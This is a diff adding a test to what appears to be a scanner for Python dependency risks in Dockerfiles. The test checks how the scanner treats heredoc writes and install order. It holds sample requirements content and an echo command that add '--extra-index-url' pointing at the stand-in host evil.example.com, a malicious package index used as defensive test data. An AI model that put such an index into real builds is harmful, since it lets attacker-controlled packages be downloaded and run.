@@ -255,6 +255,27 @@ describe('requirements files named by the install commands of Dockerfiles, workf
     expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(['CPP010@Dockerfile:4', 'CPP014@Dockerfile:7']);
   });
 
+  // pip reads the file as it is when `pip install` runs: a write after it, one that may not run, or one a later
+  // command changes is not what it read.
+  it('read the COPY’d file an install reads before a RUN heredoc write; an unsure write is CPP003', async () => {
+    const evil = '--extra-index-url https://evil.example.com/simple\nrequests\n';
+    const dockerfile = (run: string) =>
+      `FROM python:3.12\nWORKDIR /app\nCOPY pkgs.list .\nRUN ${run}\nrequests==2.31.0\nEND\n`;
+    const scan = async (run: string) =>
+      ids(await scanWith(tree({ 'pkgs.list': evil, Dockerfile: dockerfile(run) }), [pythonDepsStage]));
+    expect(await scan('pip install -r pkgs.list && cat > pkgs.list <<END')).toEqual([
+      'CPP010@pkgs.list:2',
+      'CPP012@pkgs.list:1',
+      'CPP070@pkgs.list:1',
+    ]);
+    expect(await scan('false && cat > pkgs.list <<END ; pip install -r pkgs.list')).toEqual(['CPP003@Dockerfile:4']);
+    expect(
+      await scan(
+        'cat > pkgs.list <<END && echo "--extra-index-url https://evil.example.com/simple" >> pkgs.list && pip install -r pkgs.list',
+      ),
+    ).toEqual(['CPP003@Dockerfile:4']);
+  });
+
   it('read the named file as requirements even where another command names it by -c', async () => {
     const dir = tree({
       Dockerfile: 'FROM python:3.12\nRUN pip install -c deps.lst\nRUN pip install -r deps.lst\n',
